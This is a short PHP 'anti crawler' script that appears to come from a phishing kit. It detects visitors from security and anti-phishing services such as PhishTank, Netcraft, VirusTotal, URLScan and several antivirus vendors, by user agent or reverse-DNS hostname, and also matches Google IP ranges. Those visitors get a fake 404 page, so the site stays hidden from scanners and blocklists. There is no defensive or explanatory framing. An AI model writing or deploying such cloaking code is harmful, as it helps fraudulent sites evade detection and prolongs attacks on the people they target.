<?php
// anti crawler
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
$host = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));
$blacklist = array('phishtank', 'netcraft', 'virustotal', 'urlscan', 'kaspersky', 'bitdefender',
    'fortinet', 'paloalto', 'sophos', 'mcafee', 'zscaler', 'proofpoint');
foreach ($blacklist as $bad) {
    if (strpos($ua, $bad) !== false || strpos($host, $bad) !== false) {
        header('HTTP/1.1 404 Not Found');
        exit('<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>');
    }
}
$ranges = array("^66.102.*.*", "^64.233.*.*", "^66.249.*.*", "^72.14.*.*", "^74.125.*.*",
    "^209.85.*.*", "^216.239.*.*", "^8.8.*.*", "^104.132.*.*", "^173.194.*.*");
foreach ($ranges as $r) {
    if (preg_match('/' . $r . '/', $_SERVER['REMOTE_ADDR'])) {
        header('HTTP/1.1 404 Not Found');
        exit();
    }
}
?>
